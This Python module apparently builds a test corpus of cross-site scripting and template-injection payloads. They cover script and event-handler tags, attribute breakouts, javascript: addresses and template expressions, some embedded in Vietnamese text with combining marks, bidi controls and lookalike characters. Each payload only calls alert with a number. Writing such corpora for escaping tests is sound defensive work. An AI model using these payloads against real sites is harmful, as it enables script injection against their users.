"""Texts that become scripts where a page forgets to escape: markup, attributes, addresses, templates, and Vietnamese between the pieces."""

from collections.abc import Iterator

_CALL = "alert({n})"
_TAGS = (
    "<script>{call}</script>",
    "<SCRIPT>{call}</SCRIPT>",
    "<script >{call}</script >",
    "<script\n>{call}</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<script/x>{call}</script>",
    '<script src="data:text/javascript,{call}"></script>',
    "<script type=module>{call}</script>",
    "<img src=x onerror={call}>",
    '<img src=x onerror="{call}">',
    "<img/src=x/onerror={call}>",
    "<img src=x\tonerror={call}>",
    "<img src=x\nonerror={call}>",
    "<IMG SRC=x ONERROR={call}>",
    "<img src=x onerror=&#97;lert({n})>",
    "<image src=x onerror={call}>",
    "<svg onload={call}>",
    "<svg/onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><set onbegin={call} attributeName=x>",
    "<svg><a href=javascript:{call}><text y=9>x</text></a></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:{call}>x",
    "<math><mtext><table><mglyph><style><img src=x onerror={call}>",
    "<body onload={call}>",
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<textarea autofocus onfocus={call}></textarea>",
    "<button autofocus onfocus={call}>x</button>",
    "<video src=x onerror={call}></video>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<object data=javascript:{call}>",
    "<embed src=javascript:{call}>",
    '<iframe src="javascript:parent.{call}"></iframe>',
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    "<iframe onload={call}></iframe>",
    "<link rel=stylesheet href=x onerror={call}>",
    "<style>@import 'javascript:{call}';</style>",
    "<style onload={call}></style>",
    "<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={call}>x",
    "<marquee onstart={call}>x</marquee>",
    '<meta http-equiv=refresh content="0;url=javascript:{call}">',
    "<base href=javascript:{call}//>",
    "<form action=javascript:{call}><button autofocus onfocus={call}>x</button></form>",
    "<a href=javascript:{call} autofocus onfocus={call} tabindex=1>x</a>",
    "<div style=width:1px onclick={call}>x</div>",
    "<div onmouseover={call}>x</div>",
    "<p hx-on:load='{call}' hx-get=/work hx-trigger=load>x</p>",
    "<p hx-vals='js:{{x: {call}}}' hx-get=/work hx-trigger=load>x</p>",
    "<p x-data x-init={call}>x</p>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>",
    "<xmp><p title='</xmp><img src=x onerror={call}>'>",
    "<!--><img src=x onerror={call}>-->",
    "<!-- --!><img src=x onerror={call}>",
    "<![CDATA[<img src=x onerror={call}>]]>",
    "<?xml?><img src=x onerror={call}>",
)
_BREAKS = ('"', "'", "`", '">', "'>", "</title>", "</textarea>", "</style>", "</script>", "</option></select>", "</svg>", "--></p>", "</noscript>")
_ATTRIBUTES = (
    '" onfocus={call} autofocus x="',
    "' onfocus={call} autofocus x='",
    '" onload={call} x="',
    '"\tonfocus={call}\tautofocus\tx="',
    '"/onfocus={call}/autofocus/x="',
    "` onfocus={call} autofocus x=`",
    '" style="animation:x" onanimationstart="{call}',
    '" formaction="javascript:{call}" x="',
    '" accesskey="x" onclick="{call}',
    "&quot; onfocus={call} autofocus x=&quot;",
    "&#34; onfocus={call} autofocus x=&#34;",
)
_ADDRESSES = (
    "javascript:{call}",
    "JaVaScRiPt:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "\tjavascript:{call}",
    "javascript://%0a{call}",
    "data:text/html,<script>{call}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//elsewhere.example/{n}",
    "vbscript:{call}",
)
_CODE = (
    "';{call};//",
    '";{call};//',
    "</script><script>{call}</script>",
    "\\';{call};//",
    "${{{call}}}",
    "`-{call}-`",
    "{{{{{call}}}}}",
    "{{{{ self.__init__.__globals__ }}}}{n}",
    "{{% print({n}) %}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "#{{{call}}}",
    "<%= {call} %>",
    "[[${{{call}}}]]",
    "*/{call}/*",
    "\u2028{call}\u2029",
)
_NESTED = ("<img src=x onerror={call}>", "<svg onload={call}>", "<script>{call}</script>", '<iframe srcdoc="<script>parent.{call}</script>"></iframe>')
_VIETNAMESE = (
    "Mật ong {x} rừng tràm",
    # Marks apart from their letters, so that composing them joins what stood on both sides of a piece.
    "Ma\u0323\u0302t ong e{x}\u0302 sả",
    "Tr\u00e0{x}\u0300 Đ\u1eafk",
    # Directions that turn what follows round, or hide it.
    "Chè \u202e{x}\u202c Suối",
    "Nước \u2067{x}\u2069 mắm\u200f",
    "Bánh\u200b{x}\u200d đa\ufeff",
    # Letters that look like the signs, and would be them after careless folding.
    "Cốm \uff1cscript\uff1e{x}\uff1c/script\uff1e",
)


def texts() -> list[str]:
    """Every text; each calls ``alert`` with a number of its own."""
    return [pattern.replace("{n}", str(number)) for number, pattern in enumerate(_patterns(), 1)]


def _patterns() -> Iterator[str]:
    for pattern in (*_TAGS, *_ATTRIBUTES, *_ADDRESSES, *_CODE):
        yield pattern.format(call=_CALL, n="{n}")
    for before in _BREAKS:
        for inner in _NESTED[:2]:
            yield before + inner.format(call=_CALL)
    for around in _VIETNAMESE:
        for inner in _NESTED:
            yield around.replace("{x}", inner.format(call=_CALL))
    for inner in _NESTED:
        yield inner.format(call=_CALL).replace("<", "\uff1c").replace(">", "\uff1e")
        yield inner.format(call=_CALL).replace("<", "&lt;").replace(">", "&gt;")
        yield inner.format(call=_CALL).replace("<", "\\u003c").replace(">", "\\u003e")
        yield inner.format(call=_CALL).replace("<", "%3C").replace(">", "%3E")
